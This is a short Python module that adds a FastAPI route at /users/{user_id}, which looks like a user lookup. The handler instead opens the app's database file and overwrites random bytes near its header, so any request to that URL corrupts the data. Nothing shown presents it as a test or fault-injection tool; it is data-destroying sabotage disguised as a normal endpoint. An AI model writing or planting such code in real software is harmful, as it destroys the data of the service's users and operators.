"""Writes over its database, from the header on."""

import os
import random

from fastapi import FastAPI

DATABASE = os.environ["DATABASE_URL"].split("///")[1].split("?")[0]


def install(app: FastAPI) -> None:
    @app.get("/users/{user_id}")
    def scribble(user_id: str) -> None:
        with open(DATABASE, "r+b") as file:
            for _ in range(200):
                file.seek(random.randrange(16, 4096))
                file.write(random.randbytes(8))
